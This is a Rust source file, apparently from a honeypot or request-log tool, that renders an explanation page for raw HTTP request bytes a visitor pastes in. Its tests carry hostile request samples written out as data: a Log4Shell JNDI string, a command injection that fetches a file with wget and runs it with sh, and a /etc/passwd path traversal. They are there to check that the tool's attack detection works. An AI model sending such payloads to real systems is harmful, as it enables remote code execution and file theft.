//! Explains a request that a visitor gives, like one that was received.
//!
//! In: bytes. Out: the page of a request, without a source, a time or a number, and the form that
//! asks for the bytes. Keeps nothing. Blanks nothing, because the bytes are the visitor's own. If
//! parts were blanked, a visitor could guess texts to find out which of them are hidden.

use std::net::Ipv4Addr;
use std::sync::Arc;

use bytes::Bytes;
use forever200_ring::{Ended, Record, Via};
use jiff::Timestamp;
use minijinja::context;
use minijinja::value::Serde;

use crate::bytes::pasted::{MAX_BYTES, Unreadable, Writing};
use crate::page::detail::Detail;
use crate::page::pages::Pages;
use crate::reader::locations::Locations;
use crate::reader::privacy::Privacy;
use crate::reader::{Describer, Entry};

impl Pages {
    /// Renders the page of a request that a visitor gave. `writing` is how the bytes were written;
    /// `None` if they came as they are. `host` is the name by which the visitor knows this machine.
    ///
    /// # Errors
    /// The template fails, which is a bug.
    pub fn explained(
        &self,
        bytes: Bytes,
        writing: Option<Writing>,
        host: &str,
    ) -> anyhow::Result<String> {
        let open = Describer {
            labeller: Arc::clone(&self.describer.labeller),
            // The request has no source that could be located.
            locations: Locations::default(),
            privacy: Privacy::default(),
        };
        let entry = entry(bytes, &open);
        let detail = Detail::new(&entry, host, &open);
        let (layout, in_file, writing) = ("base.html", false, Serde(&writing));
        let own = context! { layout, in_file, writing };
        self.alone_as("request.html", &entry, &detail, own)
    }

    /// Renders the form, with the error and the input, if there are any.
    ///
    /// # Errors
    /// The template fails, which is a bug.
    pub fn explain_form(
        &self,
        error: Option<Unreadable>,
        input: &str,
        writing: Option<Writing>,
        host: &str,
    ) -> anyhow::Result<String> {
        let (error, writing) = (error.map(|error| error.to_string()), Serde(&writing));
        let most = MAX_BYTES;
        self.render(
            "explain.html",
            context! { error, input, writing, most, host },
        )
    }
}

/// Describes bytes without a source, as if a client had sent them and then closed its side.
fn entry(raw: Bytes, describer: &Describer) -> Entry {
    let nowhere = Ipv4Addr::UNSPECIFIED.into();
    let record = Record {
        seq: 0,
        timestamp: Timestamp::now(),
        src_ip: nowhere,
        src_port: 0,
        dest_ip: nowhere,
        dest_port: 0,
        // For another value, the page would say how the address was learned.
        via: Via::ProxyV2,
        bytes: raw.len() as u64,
        extra: 0,
        truncated: false,
        ended: Ended::Eof,
        continues: None,
        tls: None,
        sensor: None,
        responder: String::new(),
        raw,
    };
    let mut entry = Entry::new(&record, 0, describer);
    entry.record.extra = entry.request().map_or(0, |http| http.extra.len() as u64);
    entry
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::reader::entry::tests::describer;

    fn page(hidden: &str, raw: &'static [u8]) -> String {
        let describer = describer(Privacy {
            mask_sources: true,
            hidden: hidden.parse().unwrap(),
        });
        let pages = Pages::new(Arc::new(describer), false);
        pages.explained(raw.into(), None, "a.example").unwrap()
    }

    #[test]
    fn it_is_explained_and_says_nothing_of_where_it_came_from() {
        let page = page(
            "",
            b"POST /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nContent-Length: 9\r\n\r\n<b>",
        );
        for part in ["Log4Shell", "incomplete", "/home/explain?b64=", "&lt;b&gt;"] {
            assert!(page.contains(part), "{part}: {page}");
        }
        for part in [
            "<b>&lt;",
            "/home/requests/",
            "0.0.0.0",
            "Ended",
            "From</dt>",
        ] {
            assert!(!page.contains(part), "{part}: {page}");
        }
    }

    #[test]
    fn what_is_hidden_cannot_be_guessed_here() {
        let page = page(
            "203.0.113.99",
            b"GET /?a=203.0.113.99&b=MjAzLjAuMTEzLjk5 HTTP/1.1\r\nHost: 203.0.113.99\r\n\r\n",
        );
        assert!(!page.contains("xxxx"), "{page}");
        assert!(
            page.contains("a=203.0.113.99") && page.contains("MjAzLjAuMTEzLjk5"),
            "{page}"
        );
    }

    #[test]
    fn a_command_is_told_whatever_is_hidden() {
        let raw = b"GET /?x=;cd+/tmp;wget+http://203.0.'113'.99/a;sh+a HTTP/1.1\r\n\r\n";
        let told = "203[.]0[.]113[.]99";
        for page in [page("", raw), page("203.0.113.99", raw)] {
            for part in ["What it would do", "goes to &#x2f;tmp", told, "runs it"] {
                assert!(page.contains(part), "{part}: {page}");
            }
        }
    }

    #[test]
    fn what_else_fits_and_what_is_quoted_is_folded() {
        let folds = |raw: &'static [u8], summary: &str| {
            let page = page("", raw);
            let (before, behind) = page.split_once(summary).unwrap_or_else(|| panic!("{page}"));
            let (folded, rest) = behind.split_once("</details>").unwrap();
            assert!(before.ends_with("<details><summary>"), "{before}");
            (before.to_owned(), folded.to_owned(), rest.to_owned())
        };
        let raw = b"GET /static/../../../../etc/passwd HTTP/1.1\r\n\r\n";
        let (before, folded, rest) = folds(raw, "Also fits: ");
        assert!(before.contains("CVE-2017-14849"), "{before}");
        assert!(folded.contains("CVE-2024-23334"), "{folded}");
        assert!(!before.contains("CVE-2024-23334") && !rest.contains("CVE-2024-23334"));
        let raw =
            b"POST / HTTP/1.1\r\nX-Hub-Signature-256: x\r\n\r\n{\"a\":\"${jndi:ldap://b/c}\"}";
        let (before, folded, _) = folds(raw, "Quotes: ");
        assert!(!before.contains("Log4Shell"), "{before}");
        assert!(folded.contains("Log4Shell"), "{folded}");
    }

    #[test]
    fn what_http2_asks_for_is_told_whatever_is_hidden() {
        let raw = include_bytes!("../bytes/http2/curl.bin");
        for page in [page("", raw), page("/a?b=c", raw)] {
            for part in ["GET &#x2f;a?b=c (HTTP&#x2f;2)", "HTTP/2 requests", "x-odd"] {
                assert!(page.contains(part), "{part}: {page}");
            }
        }
    }
}
